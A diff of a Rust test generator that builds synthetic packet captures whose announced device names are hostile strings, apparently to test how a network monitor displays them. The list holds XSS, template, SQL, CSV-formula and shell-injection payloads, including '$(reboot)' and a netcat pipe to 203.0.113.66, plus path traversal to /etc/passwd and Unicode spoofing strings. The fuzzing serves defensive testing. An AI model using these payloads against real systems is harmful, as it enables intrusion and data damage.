@@ -36,35 +36,98 @@ const TEXTS: &[&str] = &[
     "<link rel=stylesheet href=//203.0.113.66>",
     "<a href=javascript:owned=1>click</a>",
     "<marquee>slides</marquee><plaintext>",
-    "<!--", "]]>", "&lt;b&gt;&#60;b&#62;&amp;", "&#x202e;", "%3Cscript%3E",
+    "<!--",
+    "]]>",
+    "&lt;b&gt;&#60;b&#62;&amp;",
+    "&#x202e;",
+    "%3Cscript%3E",
     "javascript:window.owned=1",
     "data:text/html,<script>owned=1</script>",
     "x\" style=\"position:fixed;inset:0",
     // templates, code, queries
     "{{constructor.constructor('owned=1')()}}",
-    "${window.owned=1}", "#{7*7}", "<%= 7*7 %>", "{name} {0} {n}", "%s%n%x%d",
-    "'; DROP TABLE alerts; --", "\" OR 1=1 --",
-    "__proto__", "constructor", "toString", "undefined", "null", "NaN", "[object Object]", "true", "-1", "0",
+    "${window.owned=1}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{name} {0} {n}",
+    "%s%n%x%d",
+    "'; DROP TABLE alerts; --",
+    "\" OR 1=1 --",
+    "__proto__",
+    "constructor",
+    "toString",
+    "undefined",
+    "null",
+    "NaN",
+    "[object Object]",
+    "true",
+    "-1",
+    "0",
     // spreadsheets, shells, paths
-    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "=HYPERLINK(\"http://203.0.113.66\")", "\t=1+1",
-    "; reboot #", "$(reboot)", "`reboot`", "| nc 203.0.113.66 1", "../../../../etc/passwd", "..\\..\\windows",
-    "/dev/null", "C:\\CON", "file:///etc/passwd", "//203.0.113.66/share", "?next=//203.0.113.66", "#health",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "=HYPERLINK(\"http://203.0.113.66\")",
+    "\t=1+1",
+    "; reboot #",
+    "$(reboot)",
+    "`reboot`",
+    "| nc 203.0.113.66 1",
+    "../../../../etc/passwd",
+    "..\\..\\windows",
+    "/dev/null",
+    "C:\\CON",
+    "file:///etc/passwd",
+    "//203.0.113.66/share",
+    "?next=//203.0.113.66",
+    "#health",
     // control characters and terminals
-    "a\0b", "bell\u{7}", "\u{1b}[31mred\u{1b}[0m", "\u{1b}]0;title\u{7}", "line\r\nSet-Cookie: a=b", "one\ntwo",
-    "\u{7f}\u{80}\u{9b}31m", "\u{2028}paragraph\u{2029}",
+    "a\0b",
+    "bell\u{7}",
+    "\u{1b}[31mred\u{1b}[0m",
+    "\u{1b}]0;title\u{7}",
+    "line\r\nSet-Cookie: a=b",
+    "one\ntwo",
+    "\u{7f}\u{80}\u{9b}31m",
+    "\u{2028}paragraph\u{2029}",
     // direction, the invisible, look-alikes
-    "gpj\u{202e}cod.exe", "\u{2066}isolated\u{2069}", "\u{202d}left\u{202c}", "\u{200f}mark\u{200e}", "\u{61c}letter",
-    "zero\u{200b}width\u{200d}joined\u{feff}", "\u{2060}\u{2062}\u{2063}", "\u{ad}soft\u{ad}hyphen",
-    "\u{e0001}\u{e0041}tags", "pаypаl-cyrillic", "\u{3164}\u{3164}", "\u{00a0}\u{2003}spaces\u{3000}",
-    "שלום עולם", "مرحبا بالعالم", "\u{5d0}\u{5d1} 123 <b>", "网络监视器", "ネットワーク", "Ωμέγα", "नमस्ते",
-    "👩‍👩‍👧‍👦 family", "🏴‍☠️🇳🇱🇳🇱", "💥\u{fe0f}\u{20e3}", "\u{1f3fb}\u{1f3ff}",
-    "ﷺﷺﷺﷺ", "𒐫𒐫𒐫", "W\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}",
+    "gpj\u{202e}cod.exe",
+    "\u{2066}isolated\u{2069}",
+    "\u{202d}left\u{202c}",
+    "\u{200f}mark\u{200e}",
+    "\u{61c}letter",
+    "zero\u{200b}width\u{200d}joined\u{feff}",
+    "\u{2060}\u{2062}\u{2063}",
+    "\u{ad}soft\u{ad}hyphen",
+    "\u{e0001}\u{e0041}tags",
+    "pаypаl-cyrillic",
+    "\u{3164}\u{3164}",
+    "\u{00a0}\u{2003}spaces\u{3000}",
+    "שלום עולם",
+    "مرحبا بالعالم",
+    "\u{5d0}\u{5d1} 123 <b>",
+    "网络监视器",
+    "ネットワーク",
+    "Ωμέγα",
+    "नमस्ते",
+    "👩‍👩‍👧‍👦 family",
+    "🏴‍☠️🇳🇱🇳🇱",
+    "💥\u{fe0f}\u{20e3}",
+    "\u{1f3fb}\u{1f3ff}",
+    "ﷺﷺﷺﷺ",
+    "𒐫𒐫𒐫",
+    "W\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}",
     // long
-    "no-break-no-break-no-break-no-break-no-break-no-break-no-break-", "......", "-----------------------------", " ",
+    "no-break-no-break-no-break-no-break-no-break-no-break-no-break-",
+    "......",
+    "-----------------------------",
+    " ",
 ];
 
 /// Combining marks, for towers of them.
-const MARKS: [char; 8] = ['\u{300}', '\u{301}', '\u{30b}', '\u{316}', '\u{323}', '\u{334}', '\u{489}', '\u{20dd}'];
+const MARKS: [char; 8] =
+    ['\u{300}', '\u{301}', '\u{30b}', '\u{316}', '\u{323}', '\u{334}', '\u{489}', '\u{20dd}'];
 
 /// A name of each hostile kind in turn; the round makes each one its own.
 fn text(n: usize) -> String {
@@ -107,7 +170,7 @@ pub fn pcap() -> Vec<u8> {
         t.arp_announce(at, host);
         SAYINGS[n % SAYINGS.len()](t, at + 20 * MS, host, &name);
         let site = outside("198.51.100.11");
-        t.https(at + 300 * MS, host, site, "www.news.example", 300, 2_000 + n * 40);
+        t.https(at + 300 * MS, host, site, "www.news.example", 300, 1_000 + n * 4);
     }
     // Those that said their names by DHCP and mDNS scan; alerts carry their names.
     for (i, n) in [0, 1, 7, 8, 70, 71, 98, 99].into_iter().enumerate() {
@@ -124,7 +187,8 @@ pub fn pcap() -> Vec<u8> {
 const SAYINGS: [fn(&mut Trace, i64, Host, &str); 7] = [dhcp, mdns, nbns, ssdp, agent, sni, resolver];
 
 fn dhcp(t: &mut Trace, at: i64, host: Host, name: &str) {
-    let base = Dhcp { name: cut(name, 255), vendor: cut(name, 200), ..Dhcp::new(message::REQUEST, 0, host.mac) };
+    let base =
+        Dhcp { name: cut(name, 255), vendor: cut(name, 200), ..Dhcp::new(message::REQUEST, 0, host.mac) };
     t.lease(at, host, gateway(), &base);
 }
 
@@ -178,12 +242,20 @@ fn ssdp(t: &mut Trace, at: i64, host: Host, name: &str) {
         cut(&line, 100),
     );
     t.udp(at, host.port(1900), group("239.255.255.250").port(1900), notify.as_bytes());
-    let description = format!("<root><device><friendlyName>{name}</friendlyName><modelName>{name}</modelName></device></root>");
+    let description = format!(
+        "<root><device><friendlyName>{name}</friendlyName><modelName>{name}</modelName></device></root>"
+    );
     let answer = format!(
         "HTTP/1.1 200 OK\r\nServer: {line}\r\nContent-Type: text/xml\r\nContent-Length: {}\r\n\r\n{description}",
         description.len()
     );
-    t.http(at + 40 * MS, super::home::lan(20), host.port(80), "GET /description.xml HTTP/1.1\r\nHost: a\r\n\r\n", &answer);
+    t.http(
+        at + 40 * MS,
+        super::home::lan(20),
+        host.port(80),
+        "GET /description.xml HTTP/1.1\r\nHost: a\r\n\r\n",
+        &answer,
+    );
 }
 
 /// A request in the clear whose User-Agent, path, host and user are the name.
@@ -195,7 +267,13 @@ fn agent(t: &mut Trace, at: i64, host: Host, name: &str) {
         cut(&line, 60),
         cut(&line, 200),
     );
-    t.http(at, host, outside("198.51.100.12").port(80), &request, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
+    t.http(
+        at,
+        host,
+        outside("198.51.100.12").port(80),
+        &request,
+        "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
+    );
 }
 
 fn sni(t: &mut Trace, at: i64, host: Host, name: &str) {
